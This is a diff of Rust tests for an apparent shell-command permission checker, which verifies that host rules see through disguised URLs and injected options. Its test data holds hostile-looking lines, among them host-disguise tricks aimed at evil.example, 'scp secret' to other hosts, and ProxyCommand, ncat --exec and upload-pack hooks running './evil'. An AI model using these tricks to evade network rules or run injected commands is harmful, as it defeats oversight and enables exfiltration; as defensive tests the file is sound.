@@ -3,6 +3,7 @@
 use pretty_assertions::assert_eq;
 
 use super::*;
+use crate::shell::programs::git_remote::{GitRemote, git_remotes, host};
 
 #[test]
 fn always_stores_the_narrowest_beginning() {
@@ -347,6 +348,229 @@ fn rules_that_deny_see_into_programs_that_run_others() {
     }
 }
 
+/// The servers behind the git addresses of a line, if the settings put none in their place.
+fn remotes(line: &str) -> Vec<String> {
+    let found = git_remotes(&CommandLine::read(line)).into_iter().map(|it| match it {
+        GitRemote::Cloned(url) => host(&url),
+        GitRemote::Named { name, .. } => match name.as_deref() {
+            None => None,
+            Some("origin") => Some("github.com".to_owned()),
+            Some(name) => host(name),
+        },
+    });
+    found.collect::<Option<_>>().unwrap_or_default()
+}
+
+/// The servers on the card.
+fn reached(line: &str) -> String {
+    let (nothing, remotes) = (Rules::default(), remotes(line));
+    let facts = Facts {
+        remotes: &remotes,
+        ..facts(&nothing)
+    };
+    question(&with(line, &[Permission::Network]), &facts).reaches.join(" ")
+}
+
+#[test]
+fn an_ordinary_command_names_its_servers_exactly() {
+    for (line, expected) in [
+        ("curl https://docs.rs", "docs.rs"),
+        ("curl -sSfL 'https://docs.rs/x?a=https://evil.example/'", "docs.rs"),
+        ("curl -s -o /dev/null -w '%{http_code}' https://docs.rs", "docs.rs"),
+        (
+            "curl -XPOST -d '{\"a\":1}' -H 'a: b' https://api.example/v1",
+            "api.example",
+        ),
+        ("curl --json '{}' --max-time 5 https://api.example", "api.example"),
+        ("curl -fsSLo x.tgz https://kim:pw@docs.rs:8443/x.tgz", "docs.rs"),
+        ("curl localhost:3000/health", "localhost"),
+        ("curl http://127.0.0.1:8080/ | jq .a", "127.0.0.1"),
+        ("curl -s 'https://docs.rs/x?a=1&b=2#c@d' | head -3", "docs.rs"),
+        ("curl https://docs.rs intranet", "docs.rs intranet"),
+        ("curl intranet/x@y https://docs.rs", "intranet docs.rs"),
+        ("curl https://docs.rs && echo https://evil.example", "docs.rs"),
+        ("curl -H 'Referer: https://evil.example/' https://docs.rs", "docs.rs"),
+        ("wget https://docs.rs/x.tgz", "docs.rs"),
+        ("wget -q -O - https://docs.rs/x", "docs.rs"),
+        ("wget -qO- docs.rs/x", "docs.rs"),
+        ("wget -nv --tries=3 --output-document x https://docs.rs/x", "docs.rs"),
+        (
+            "wget -c -P out https://a.example/x https://b.example/y",
+            "a.example b.example",
+        ),
+        ("git clone https://github.com/a/b", "github.com"),
+        (
+            "git clone --depth 1 -b main https://github.com/a/b c && cd c",
+            "github.com",
+        ),
+        ("git clone --depth=1 --branch=main git@github.com:a/b.git", "github.com"),
+        ("git clone ssh://git@github.com:22/a/b", "github.com"),
+        ("git clone build:x.git y; curl https://docs.rs", "docs.rs build"),
+        ("git push", "any host"),
+        ("git push origin main", "github.com"),
+        ("git push -u --force-with-lease origin HEAD", "github.com"),
+        ("git add -A && git commit -m x && git push origin", "github.com"),
+        ("git fetch -p --tags origin", "github.com"),
+        ("git pull --rebase origin main", "github.com"),
+        ("git fetch https://codeberg.org/a/b main", "codeberg.org"),
+        ("git push git@codeberg.org:a/b.git main", "codeberg.org"),
+        ("git ls-remote --heads https://github.com/a/b", "github.com"),
+        ("ssh me@host.example ls -la", "host.example"),
+        ("ssh -p 2222 -i key host.example 'uptime; df -h'", "host.example"),
+        ("ssh host.example -p 22 ls", "host.example"),
+        ("ssh build uptime; curl https://docs.rs", "build docs.rs"),
+        ("scp a.txt me@host.example:/tmp/", "host.example"),
+        ("scp -rP 22 host.example:x .", "host.example"),
+        ("scp secret build:/tmp/x docs.rs:/x", "build docs.rs"),
+        (
+            "rsync -avz --delete --exclude=.git ./ me@host.example:/srv/",
+            "host.example",
+        ),
+        ("rsync -a host.example::module/x y", "host.example"),
+        ("rsync -a rsync://host.example/x y", "host.example"),
+        ("npm install", "any host"),
+        ("npm install https://a.example/x.tgz", "a.example any host"),
+        ("pip install -r requirements.txt", "any host"),
+        ("cargo fetch", "any host"),
+        ("dig docs.rs", "docs.rs any host"),
+    ] {
+        assert_eq!(reached(line), expected, "{line}");
+    }
+}
+
+#[test]
+fn an_address_names_the_server_that_its_program_reaches() {
+    for (line, expected) in [
+        ("curl 'https://docs.rs,@evil.example/x'", "evil.example"),
+        ("curl 'https://docs.rs;@evil.example/x'", "evil.example"),
+        ("curl 'https://docs.rs&x@evil.example/x'", "evil.example"),
+        ("curl 'https://docs.rs$@evil.example/x'", "evil.example"),
+        ("curl 'https://docs.rs(@evil.example/x'", "evil.example"),
+        ("curl 'https://docs.rs%2f@evil.example/x'", "evil.example"),
+        ("wget 'https://docs.rs,@evil.example/x'", "evil.example"),
+        ("git clone 'https://docs.rs,@evil.example/x'", "evil.example"),
+        ("git ls-remote 'https://docs.rs;@evil.example/x'", "evil.example"),
+        ("curl https://docs.rs''.evil.example/", "docs.rs.evil.example"),
+        ("curl https://docs.rs\\.evil.example/", "docs.rs.evil.example"),
+        ("git clone 'https://docs.rs'.evil.example/x", "docs.rs.evil.example"),
+        (
+            "curl https:\"//evil.example/x\" https://docs.rs/y",
+            "evil.example docs.rs",
+        ),
+        ("curl https:''//evil.example/x", "evil.example"),
+        ("ssh me@docs.rs/@evil.example ls", "evil.example"),
+        ("ssh a:b@evil ls; curl https://docs.rs", "evil docs.rs"),
+        ("git push 'evil.example:x@docs.rs' main", "evil.example"),
+        (
+            "git clone evil.example:x@docs.rs y; curl https://docs.rs",
+            "docs.rs evil.example",
+        ),
+        ("scp a 'evil.example:x@docs.rs'", "evil.example"),
+        ("git clone 'ext::./evil' y; curl https://docs.rs", "docs.rs any host"),
+        ("git clone own://docs.rs/x; curl https://docs.rs", "docs.rs any host"),
+        ("git clone -u https://docs.rs/x ./evilrepo", "docs.rs any host"),
+        (
+            "curl 'https://[a-b].evil.example/x' https://docs.rs",
+            "docs.rs any host",
+        ),
+        ("curl http:/a@evil https://docs.rs", "docs.rs any host"),
+    ] {
+        assert_eq!(reached(line), expected, "{line}");
+    }
+}
+
+#[test]
+fn rules_about_hosts_see_servers_through_disguises_and_ask_where_they_cannot() {
+    let forbidden = Rules {
+        deny: rules(&["WebFetch(evil.example)", "WebFetch(*.evil.example)"]),
+        allow: rules(&[
+            "Shell(curl) with network",
+            "Shell(wget) with network",
+            "Shell(ping) with network",
+            "Shell(git fetch) with network",
+            "Shell(git clone) with network",
+            "Shell(git log) with network",
+            "Shell(npm install) with network",
+            "Shell(cargo fetch) with network",
+            "Shell(python3 get.py) with network",
+            "Shell(ls) with network",
+        ]),
+        ..Rules::default()
+    };
+    let asking = Rules {
+        ask: forbidden.deny.clone(),
+        deny: Vec::new(),
+        ..forbidden.clone()
+    };
+    for (line, expected) in [
+        ("curl https://evil.example/x", "deny"),
+        ("curl 'https://docs.rs,@evil.example/x'", "deny"),
+        ("curl 'https://docs.rs;@evil.example/x'", "deny"),
+        ("curl 'https://docs.rs$@evil.example/x'", "deny"),
+        ("curl https://docs.rs''.evil.example/", "deny"),
+        ("curl https://docs.rs\\.evil.example/", "deny"),
+        ("curl https:''//evil.example/x", "deny"),
+        ("curl evil.example", "deny"),
+        ("curl EVIL.example./x", "deny"),
+        ("curl https://evil.example/$x", "deny"),
+        ("wget 'https://docs.rs(@evil.example/x'", "deny"),
+        ("git fetch evil.example:x@docs.rs", "deny"),
+        ("git clone 'https://docs.rs&x@evil.example/x'", "deny"),
+        ("ping evil.example", "deny"),
+        ("npm install https:''//evil.example/x.tgz", "deny"),
+        ("npm install 'git+https://docs.rs,@evil.example/x'", "deny"),
+        ("python3 get.py https://docs.rs\"\".evil.example/", "deny"),
+        // Each of these may reach it.
+        ("curl 'https://[d-f]vil.example/'", "ask"),
+        ("curl 'https://{a,evil}.example/'", "ask"),
+        ("curl 'https://evil%2eexample/'", "deny"),
+        ("curl 'https://docs.rs\\@evil.example'", "ask"),
+        ("curl https://$x/", "ask"),
+        ("curl \"$x\"", "ask"),
+        ("curl -s", "ask"),
+        ("ping \"$x\"", "ask"),
+        ("ping 10", "ask"),
+        ("git fetch", "ask"),
+        ("git clone \"$x\"", "ask"),
+        ("npm install 'https://docs.rs;x/x.tgz'", "ask"),
+        ("npm install \"$x\"", "ask"),
+        // These reach what they name, and these choose what they reach.
+        ("curl https://docs.rs/x", "allow"),
+        ("curl -s https://docs.rs/x && ls", "allow"),
+        ("wget -q docs.rs/x", "allow"),
+        ("git fetch origin", "allow"),
+        ("git clone https://docs.rs/x", "allow"),
+        ("npm install", "allow"),
+        ("npm install left-pad", "allow"),
+        ("cargo fetch", "allow"),
+        ("python3 get.py x", "allow"),
+    ] {
+        let remotes = remotes(line);
+        let facts = |rules| Facts {
+            remotes: &remotes,
+            ..facts(rules)
+        };
+        let access = with(line, &[Permission::Network]);
+        let found = told(verdict(&access, &facts(&forbidden)));
+        assert_eq!(found.split(' ').next(), Some(expected), "{line}");
+        let found = told(verdict(&access, &facts(&asking)));
+        let asks = if expected == "deny" { "ask" } else { expected };
+        assert_eq!(found.split(' ').next(), Some(asks), "{line}");
+    }
+    assert_eq!(
+        question(&with("curl https://$x/", &[Permission::Network]), &facts(&forbidden)).why,
+        "it is not certain which servers its words name, so rules that forbid or ask cannot be applied"
+    );
+    let without = Rules {
+        deny: Vec::new(),
+        ..forbidden
+    };
+    assert_eq!(
+        verdict(&with("ping 10", &[Permission::Network]), &facts(&without)),
+        Verdict::Allow
+    );
+}
+
 #[test]
 fn a_question_says_what_is_reached_and_written() {
     let nothing = Rules::default();
@@ -424,7 +648,12 @@ fn a_question_says_what_is_reached_and_written() {
         ("curl -o x https://a.example", network, &["a.example"], &["x"]),
         ("ls > /dev/null", &[], &[], &[]),
     ] {
-        let question = question(&with(line, permissions), &facts(&nothing));
+        let remotes = remotes(line);
+        let facts = Facts {
+            remotes: &remotes,
+            ..facts(&nothing)
+        };
+        let question = question(&with(line, permissions), &facts);
         assert_eq!(question.reaches, reaches, "{line}");
         assert_eq!(question.writes, writes, "{line}");
     }
@@ -438,14 +667,11 @@ fn a_question_says_what_is_reached_and_written() {
         "ssh -J jump me@docs.rs",
         "ssh me@docs.rs -J jump ls",
         "ssh me@docs.rs -oProxyCommand=./evil ls",
-        "ssh build uptime; curl https://docs.rs",
         "ncat --exec ./evil docs.rs 80",
         "wget --use-askpass=./evil https://docs.rs",
         "wget -i list https://docs.rs",
         "curl -K cfg https://docs.rs",
         "curl -sK cfg https://docs.rs",
-        "curl https://docs.rs intranet",
-        "curl intranet https://docs.rs",
         "curl --proxy evil https://docs.rs",
         "curl -xevil.example:3128 https://docs.rs",
         "curl --connect-to ::evil.example:443 https://docs.rs",
@@ -453,14 +679,29 @@ fn a_question_says_what_is_reached_and_written() {
         "curl 'https://docs.rs\\@evil.example'",
         "https_proxy=evil curl https://docs.rs",
         "sftp -b cmds docs.rs",
-        "scp secret build:/tmp/x docs.rs:/x",
         "dig docs.rs @9.9.9.9",
         "git rebase -x ./evil --onto https://docs.rs/x",
         "git clone -u ./evil https://docs.rs/x",
-        "git clone build:x.git y; curl https://docs.rs",
         "git ls-remote https://docs.rs/x --upload-pack=./evil",
         "git push -o see=https://docs.rs origin",
         "git evil https://docs.rs/x",
+        "git clone -u https://docs.rs/x ./evilrepo",
+        "git clone --config core.sshCommand=./evil https://docs.rs/x",
+        "git branch -u evil/main && git push",
+        "curl a:b@intranet https://docs.rs",
+        "curl http:/a@evil https://docs.rs",
+        "curl 'https://[a-b].evil.example/x' https://docs.rs",
+        "curl 'https://{a,b}.evil.example/x' https://docs.rs",
+        "curl 'https://docs.rs%2eevil.example/x' https://docs.rs",
+        "curl https://docs.rs/$x",
+        "curl https://docs.rs ~/x",
+        "curl https://docs.rs x*",
+        "wget docs.rs:x@evil.example",
+        "ssh $x; curl https://docs.rs",
+        "ssh docs.rs -p 22 -J jump ls",
+        "rsync -avM ./evil a docs.rs:b",
+        "scp -S ./evil a docs.rs:b",
+        "scp docs.rs:a -P evil.example:b",
         "git fetch https://docs.rs/x && git evil",
         "git fetch https://docs.rs/x && ./git status",
     ] {
